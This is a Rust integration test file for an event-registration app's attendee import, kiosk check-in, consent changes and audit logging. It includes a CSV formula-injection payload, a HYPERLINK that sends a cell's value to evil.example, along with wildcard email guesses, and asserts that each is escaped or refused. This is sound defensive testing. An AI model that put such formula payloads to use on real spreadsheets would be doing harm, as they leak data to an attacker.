//! Organiser attendee pages, CSV import and kiosk check-in over the API (issue 3,
//! items 3, 7, 8; requirements 1, 4, 5, 13, 19, 22).

use crate::common::{Client, TestApp};
use app::types::{
    AttendeeDetail, AttendeeList, Channel, CheckinFound, Consent, EventOverview, EventSettings,
    Field, FieldRule, ImportOutcome, ImportPreview, Registered,
};

const PRETIX: &str = include_str!("../../../app/tests/fixtures/import/pretix.csv");
const INDICO: &str = include_str!("../../../app/tests/fixtures/import/indico.csv");
const HIEVENTS: &str = include_str!("../../../app/tests/fixtures/import/hievents.csv");

/// Every field on, none required; optionally email look-up at the kiosk.
async fn all_fields(org: &mut Client, event_id: &str, email_lookup: bool) {
    let mut s = EventSettings::default();
    for f in Field::ALL {
        *s.fields.get_mut(f) = FieldRule {
            enabled: true,
            required: false,
        };
    }
    s.print_name = true;
    s.allow_email_lookup = email_lookup;
    org.save_settings(event_id, &s).await;
}

async fn import(org: &mut Client, event_id: &str, csv: &str) -> (u16, String) {
    let body = serde_json::json!({ "event_id": event_id, "csv": csv }).to_string();
    let r = org.post_json("/api/attendees/import/preview", &body).await;
    if r.status != 200 {
        return (r.status, r.body);
    }
    let p: ImportPreview = serde_json::from_str(&r.body).unwrap();
    let body =
        serde_json::json!({ "event_id": event_id, "csv": csv, "mapping": p.mapping }).to_string();
    let r = org.post_json("/api/attendees/import", &body).await;
    (r.status, r.body)
}

fn audit_actions(server: &TestApp) -> Vec<(String, String, String)> {
    let db = server.db();
    let mut st = db
        .prepare("SELECT actor, action, subject FROM audit_log ORDER BY id")
        .unwrap();
    st.query_map([], |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?)))
        .unwrap()
        .collect::<Result<_, _>>()
        .unwrap()
}

#[tokio::test]
async fn csv_import_maps_each_sample_and_a_bad_file_names_its_line_and_imports_nothing() {
    let server = TestApp::start().await;
    let (mut org, _kiosk, ev) = server.organiser_and_kiosk().await;
    all_fields(&mut org, &ev, false).await;

    let mut expected = 0;
    for (csv, format) in [
        (PRETIX, "pretix"),
        (INDICO, "indico"),
        (HIEVENTS, "hievents"),
    ] {
        let body = serde_json::json!({ "event_id": ev, "csv": csv }).to_string();
        let p: ImportPreview = serde_json::from_str(
            &org.post_json("/api/attendees/import/preview", &body)
                .await
                .body,
        )
        .unwrap();
        assert_eq!(p.format, format);
        let (status, body) = import(&mut org, &ev, csv).await;
        assert_eq!(status, 200, "{format}: {body}");
        let out: ImportOutcome = serde_json::from_str(&body).unwrap();
        assert_eq!(out.imported, 3, "{format}");
        assert_eq!(out.codes[0].name, "Jānis Bērziņš", "{format}");
        assert_eq!(out.codes[0].email, "janis.berzins@example.lv", "{format}");
        expected += 3;
        let l = org
            .attendees(&ev, serde_json::json!({ "q": "ozoliņa" }))
            .await;
        assert_eq!(l.total, expected / 3, "{format}: one Līga per file");
        let row = &l.rows[0];
        assert_eq!(row.fields.first_name.as_deref(), Some("Līga"));
        assert!(
            row.fields.organisation.is_some(),
            "{format}: company mapped"
        );
        assert!(row.fields.phone.is_some(), "{format}: phone mapped");
        assert_eq!((row.checked_in, row.consent), (false, None));
    }

    // A malformed file: line 4 has a cell too few. The answer names the line, and
    // nothing of the file is stored.
    let bad = "First Name,Last Name,Email\nA,B,a@example.lv\nC,D,c@example.lv\nE,F\n";
    let (status, body) = import(&mut org, &ev, bad).await;
    assert_eq!(
        (status, body.as_str()),
        (
            400,
            r#"{"BadInput":{"import_line":{"line":4,"problem":"import_cell_count"}}}"#
        )
    );
    // Readable but line 3 has a bad email: refused at import, nothing stored either.
    let bad = "First Name,Last Name,Email\nA,B,a@example.lv\nC,D,not-an-email\n";
    let (status, body) = import(&mut org, &ev, bad).await;
    assert_eq!(
        (status, body.as_str()),
        (
            400,
            r#"{"BadInput":{"import_line":{"line":3,"problem":{"field_invalid":"email"}}}}"#
        )
    );
    // Too large: 413 before anything is read.
    let huge = format!("First Name\n{}", "x\n".repeat(2_000_000));
    let (status, _) = import(&mut org, &ev, &huge).await;
    assert_eq!(status, 413);
    assert_eq!(
        org.attendees(&ev, serde_json::json!({})).await.total,
        expected
    );
    let overview: EventOverview = org.event_stats(&ev).await;
    assert_eq!(overview.stats.registered, expected);
    assert_eq!(overview.stats.checked_in, 0);
    // No personal data went to the log.
    let imported = audit_actions(&server)
        .into_iter()
        .filter(|(_, a, _)| a == "attendee.import")
        .count();
    assert_eq!(
        imported as i64, expected,
        "one audit row per imported attendee"
    );
    server.stop();
}

#[tokio::test]
async fn kiosk_checks_in_by_code_or_exact_email_and_sees_only_that_name() {
    let server = TestApp::start().await;
    let (mut org, mut kiosk, ev) = server.organiser_and_kiosk().await;
    all_fields(&mut org, &ev, false).await;
    let (_, body) = import(&mut org, &ev, PRETIX).await;
    let out: ImportOutcome = serde_json::from_str(&body).unwrap();
    let liga = &out.codes[1];
    assert_eq!(liga.name, "Līga Ozoliņa");

    // Typed in lower case without dashes, as people do.
    let typed = liga.code.to_lowercase().replace('-', " ");
    let r = kiosk
        .post(
            "/api/kiosk/checkin/find",
            &[("code", &typed), ("email", "")],
        )
        .await;
    assert_eq!(r.status, 200, "{}", r.body);
    let found: CheckinFound = serde_json::from_str(&r.body).unwrap();
    assert_eq!(found.name.as_deref(), Some("Līga Ozoliņa"));
    assert!(
        !r.body.contains("Jānis") && !r.body.contains('@'),
        "only the attendee's own name: {}",
        r.body
    );

    let notice = kiosk.kiosk_notice("en").await;
    let body = serde_json::json!({ "registration": {
        "lang": "en", "notice": notice, "fields": { "first_name": "Someone Else" },
        "is_minor": false, "choice": "green", "checkin": true
    }})
    .to_string();
    let r = kiosk.post_json("/api/kiosk/register", &body).await;
    assert_eq!(r.status, 200, "{}", r.body);
    let reg: Registered = serde_json::from_str(&r.body).unwrap();
    assert_eq!(reg.badge.consent, Consent::Green);
    assert_eq!(
        reg.badge.name.as_deref(),
        Some("Līga Ozoliņa"),
        "the stored name, not what was sent"
    );
    assert!(!reg.private_code.is_empty());
    // The same check-in cannot be completed twice in the session...
    let r = kiosk.post_json("/api/kiosk/register", &body).await;
    assert_eq!(
        (r.status, r.body.as_str()),
        (400, r#"{"BadInput":"checkin_expired"}"#)
    );
    // ...and the used code is refused.
    let r = kiosk
        .post(
            "/api/kiosk/checkin/find",
            &[("code", &liga.code), ("email", "")],
        )
        .await;
    assert_eq!(
        (r.status, r.body.as_str()),
        (400, r#"{"BadInput":"checkin_used"}"#)
    );
    let l = org
        .attendees(&ev, serde_json::json!({ "checked_in": "yes" }))
        .await;
    assert_eq!(l.total, 1);
    assert_eq!(l.rows[0].fields.first_name.as_deref(), Some("Līga"));
    assert_eq!(l.rows[0].consent, Some(Consent::Green));

    // Email look-up only when the event allows it, and only exact addresses.
    let r = kiosk
        .post(
            "/api/kiosk/checkin/find",
            &[("code", ""), ("email", "janis.berzins@example.lv")],
        )
        .await;
    assert_eq!(
        (r.status, r.body.as_str()),
        (400, r#"{"BadInput":"checkin_email_off"}"#)
    );
    all_fields(&mut org, &ev, true).await;
    for guess in [
        "%",
        "%@example.lv",
        "janis%",
        "example.lv",
        "_anis.berzins@example.lv",
    ] {
        let r = kiosk
            .post("/api/kiosk/checkin/find", &[("code", ""), ("email", guess)])
            .await;
        assert_eq!(
            (r.status, r.body.as_str()),
            (400, r#"{"BadInput":"checkin_not_found"}"#),
            "{guess}"
        );
    }
    let r = kiosk
        .post(
            "/api/kiosk/checkin/find",
            &[("code", ""), ("email", " Janis.Berzins@Example.LV ")],
        )
        .await;
    assert_eq!(r.status, 200, "{}", r.body);
    let found: CheckinFound = serde_json::from_str(&r.body).unwrap();
    assert_eq!(found.name.as_deref(), Some("Jānis Bērziņš"));
    let r = kiosk
        .post(
            "/api/kiosk/checkin/find",
            &[("code", "ZZZZ-ZZZZ"), ("email", "")],
        )
        .await;
    assert_eq!(
        (r.status, r.body.as_str()),
        (400, r#"{"BadInput":"checkin_not_found"}"#)
    );
    server.stop();
}

#[tokio::test]
async fn kiosk_cannot_list_or_read_attendees_even_with_crafted_requests() {
    let server = TestApp::start().await;
    let (mut org, mut kiosk, ev) = server.organiser_and_kiosk().await;
    all_fields(&mut org, &ev, true).await;
    import(&mut org, &ev, INDICO).await;
    let any = org.attendees(&ev, serde_json::json!({})).await.rows[0].id;

    // Its own event's public id, every filter, JSON and form encodings.
    let crafted = [
        (
            "/api/attendees/list",
            serde_json::json!({ "event_id": ev, "filter": { "q": "a" } }),
        ),
        (
            "/api/attendees/list",
            serde_json::json!({ "event_id": ev, "filter": {} }),
        ),
        (
            "/api/attendees/detail",
            serde_json::json!({ "event_id": ev, "attendee_id": any }),
        ),
        (
            "/api/attendees/badge",
            serde_json::json!({ "event_id": ev, "attendee_id": any }),
        ),
        ("/api/events/stats", serde_json::json!({ "event_id": ev })),
    ];
    for (path, body) in crafted {
        let r = kiosk.post_json(path, &body.to_string()).await;
        assert_eq!(r.status, 403, "{path}: {}", r.body);
        assert!(!r.body.contains("Bērziņš") && !r.body.contains('@'));
    }
    let r = kiosk
        .post(
            "/api/attendees/list",
            &[("event_id", ev.as_str()), ("filter[q]", "")],
        )
        .await;
    assert!(
        r.status == 403 || r.status == 400,
        "form body: {}",
        r.status
    );
    assert!(!r.body.contains("Bērziņš"));
    // The pages are refused too.
    for page in [
        format!("/dashboard/events/{ev}/attendees"),
        format!("/dashboard/events/{ev}/attendees/{any}"),
    ] {
        assert_eq!(kiosk.get(&page).await.status, 403, "{page}");
    }
    server.stop();
}

#[tokio::test]
async fn organiser_registers_on_behalf_changes_consent_and_every_step_is_audited() {
    let server = TestApp::start().await;
    let (mut org, mut kiosk, ev) = server.organiser_and_kiosk().await;
    all_fields(&mut org, &ev, false).await;
    let user_id = server
        .state
        .store
        .login_record("org@example.lv".into())
        .await
        .unwrap()
        .unwrap()
        .id;

    let notice = org.event_notice(&ev, "lv").await;
    let reg = serde_json::json!({ "event_id": ev, "registration": {
        "fields": { "first_name": "Ilze", "last_name": "Kalniņa", "email": "ilze@example.lv" },
        "is_minor": false, "consent": { "choice": "green", "notice": notice }
    }});
    let reg: Registered = org.call("/api/attendees/register", reg).await;
    assert_eq!(reg.badge.consent, Consent::Green);
    assert_eq!(reg.badge.name.as_deref(), Some("Ilze Kalniņa"));

    // A walk-in minor at the kiosk, red.
    kiosk
        .register_at_kiosk(
            serde_json::json!({ "first_name": "Toms" }),
            true,
            Some("red"),
        )
        .await;

    let all = org.attendees(&ev, serde_json::json!({})).await;
    assert_eq!(all.total, 2);
    let ilze = all
        .rows
        .iter()
        .find(|r| r.fields.first_name.as_deref() == Some("Ilze"))
        .unwrap()
        .id;
    let toms = all.rows.iter().find(|r| r.id != ilze).unwrap().id;
    let ids = |l: AttendeeList| l.rows.iter().map(|r| r.id).collect::<Vec<_>>();
    assert_eq!(
        ids(org
            .attendees(&ev, serde_json::json!({ "consent": "green" }))
            .await),
        vec![ilze]
    );
    assert_eq!(
        ids(org
            .attendees(&ev, serde_json::json!({ "minor": "yes" }))
            .await),
        vec![toms]
    );
    assert_eq!(
        ids(org
            .attendees(&ev, serde_json::json!({ "q": "KALNI" }))
            .await),
        vec![ilze]
    );
    assert_eq!(
        ids(org
            .attendees(
                &ev,
                serde_json::json!({ "q": "Ilze Kalniņa", "minor": "no" })
            )
            .await),
        vec![ilze]
    );
    assert!(ids(org
        .attendees(&ev, serde_json::json!({ "q": "nobody" }))
        .await)
    .is_empty());

    // Change on request: red, then a minor's green without a guardian is refused.
    let change = |id: app::types::AttendeeId, consent: serde_json::Value| serde_json::json!({ "event_id": ev, "attendee_id": id, "consent": consent });
    let d: AttendeeDetail = org
        .call(
            "/api/attendees/consent",
            change(
                ilze,
                serde_json::json!({ "choice": "red", "notice": notice }),
            ),
        )
        .await;
    assert_eq!(d.consent, Some(Consent::Red));
    let h = &d.history;
    assert_eq!(h.len(), 2);
    assert_eq!(
        (h[0].choice, h[0].channel, h[1].choice, h[1].channel),
        (
            Consent::Green,
            Channel::Organiser,
            Consent::Red,
            Channel::Organiser
        )
    );
    assert_eq!(h[1].channel_ref, format!("user:{user_id}"));
    assert!(h[1].notice_text.contains("Summit"), "the notice text shown");
    assert_eq!(h[1].notice_sha256.len(), 64);

    let r = org
        .post_json(
            "/api/attendees/consent",
            &change(
                toms,
                serde_json::json!({ "choice": "green", "notice": notice }),
            )
            .to_string(),
        )
        .await;
    assert_eq!(
        (r.status, r.body.as_str()),
        (400, r#"{"BadInput":"guardian_required"}"#)
    );
    let d: AttendeeDetail = org
        .call(
            "/api/attendees/detail",
            serde_json::json!({ "event_id": ev, "attendee_id": toms }),
        )
        .await;
    assert_eq!(
        d.consent,
        Some(Consent::Red),
        "the refused change stored nothing"
    );
    assert_eq!(d.history.len(), 1);
    assert_eq!(d.history[0].channel, Channel::Kiosk);

    // Reprint: the badge follows the current consent.
    let b: app::types::Badge = org
        .call(
            "/api/attendees/badge",
            serde_json::json!({ "event_id": ev, "attendee_id": ilze }),
        )
        .await;
    assert_eq!(b.consent, Consent::Red);

    // Another organiser sees none of it.
    let mut other = server.organiser("other@example.lv").await;
    let r = other
        .post_json(
            "/api/attendees/detail",
            &serde_json::json!({ "event_id": ev, "attendee_id": ilze }).to_string(),
        )
        .await;
    assert_eq!(r.status, 404);

    let me = format!("user:{user_id}");
    let log = audit_actions(&server);
    for (action, subject) in [
        ("attendee.register", format!("attendee:{ilze}")),
        ("attendee.list", "event:".to_string()),
        ("attendee.view", format!("attendee:{toms}")),
        ("consent.record", format!("attendee:{ilze},consent:")),
        ("attendee.badge", format!("attendee:{ilze}")),
    ] {
        assert!(
            log.iter()
                .any(|(a, act, s)| a == &me && act == action && s.starts_with(&subject)),
            "audit has {action} {subject} by {me}"
        );
    }
    assert!(
        log.iter()
            .all(|(_, _, s)| !s.contains("Ilze") && !s.contains('@')),
        "no personal data in the audit subjects"
    );
    server.stop();
}

#[tokio::test]
async fn formula_cells_are_imported_as_text_and_written_escaped_and_names_are_nfc() {
    // Issue 14, point 6: CSV formula injection and Unicode NFC. The importer keeps a
    // value that starts like a formula as the text it is; the CSV copy escapes it; a
    // name typed with combining marks is stored in NFC and found by the search.
    let server = TestApp::start().await;
    let (mut org, _kiosk, ev) = server.organiser_and_kiosk().await;
    all_fields(&mut org, &ev, false).await;
    let evil = "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"Open\")";
    let csv = format!(
        "first_name,last_name,email,phone,organisation\n\
         \"{}\",Ozola,dace@example.lv,+371 2000 0000,@Corp\n\
         Ja\u{304}nis,C\u{30C}akste,janis@example.lv,,-Corp\n",
        evil.replace('"', "\"\"")
    );
    let (status, body) = import(&mut org, &ev, &csv).await;
    assert_eq!(status, 200, "{body}");

    // Stored as text, exactly; names in NFC ("Č" and "ā" one character each).
    let db = server.db();
    let row = |email: &str| -> (i64, String, String) {
        db.query_row(
            "SELECT id, first_name, last_name FROM attendees WHERE email = ?1",
            [email],
            |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?)),
        )
        .unwrap()
    };
    let (dace, first, _) = row("dace@example.lv");
    assert_eq!(first, evil);
    let (_, first, last) = row("janis@example.lv");
    assert_eq!(
        (first.as_str(), last.as_str()),
        ("J\u{101}nis", "\u{10C}akste")
    );
    drop(db);

    // The search finds the name typed either way.
    for q in ["Čakste", "C\u{30C}akste", "jānis čak"] {
        let found = org.attendees(&ev, serde_json::json!({ "q": q })).await;
        assert_eq!(found.total, 1, "{q}");
    }

    // The organiser's CSV copy of the attendee: the formula is text.
    let r = org
        .post_json(
            "/api/attendees/export",
            &serde_json::json!({ "event_id": ev, "attendee_id": dace }).to_string(),
        )
        .await;
    assert_eq!(r.status, 200, "{}", r.body);
    let export: app::types::DataExport = serde_json::from_str(&r.body).unwrap();
    let lines: Vec<&str> = export.csv.split("\r\n").collect();
    assert!(
        lines.contains(
            &"fields,,first_name,\"'=HYPERLINK(\"\"http://evil.example/?q=\"\"&A1,\"\"Open\"\")\""
        ),
        "{}",
        export.csv
    );
    assert!(lines.contains(&"fields,,phone,'+371 2000 0000"));
    assert!(lines.contains(&"fields,,organisation,'@Corp"));
    for line in &lines[1..] {
        let value = line.splitn(4, ',').nth(3).unwrap_or("");
        let value = value.trim_start_matches('"');
        assert!(
            !value.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "{line}"
        );
    }
    // The JSON copy keeps the value as it is.
    let json: serde_json::Value = serde_json::from_str(&export.json).unwrap();
    assert_eq!(json["fields"]["first_name"], evil);
    server.stop();
}
